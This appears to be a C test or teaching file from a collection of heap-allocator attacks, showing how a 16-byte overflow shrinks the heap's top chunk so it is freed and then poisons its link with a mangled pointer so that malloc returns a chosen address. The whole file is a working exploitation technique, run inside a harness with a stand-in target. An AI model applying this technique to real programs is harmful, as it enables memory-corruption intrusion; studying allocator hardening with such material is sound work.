// attack: the rest of the heap made smaller, so that what is behind it is freed; then a link in it to a chosen place
// has: an overflow of 16 bytes, twice; addresses of its own blocks; sizes
// reaches: malloc gives a place in the program's data
// never: engine hardened
#include "attack.h"

enum { wanted = 0x150, fences = 0x20, page = 0x1000 };

// The head of what is not handed out yet lies behind the last block: it shrinks to the rest of its page. A request that does not
// fit makes the heap grow elsewhere, and the rest is freed.  Returns: the block before it; `size` is what that one has.
static char* free_the_rest(size_t* size) {
  char* const probe = take(0x18);
  const size_t rest = word_at(probe, 0x18) % page / 16 * 16;
  *size = (rest + page - wanted) % page + page - 8;
  char* const last = take(*size);
  put_word(last, *size, wanted | 1);
  (void)take(0x2000);
  return last;
}

int main(void) {
  size_t size;
  (void)free_the_rest(&size);
  char* const last = free_the_rest(&size);
  char* const freed = last + size + 8;
  put_word(freed, 0, mixed(target, freed));
  for (int i = 0; i < 3; ++i)
    if (take(wanted - fences - 8) == target) reached();
  nothing();
}
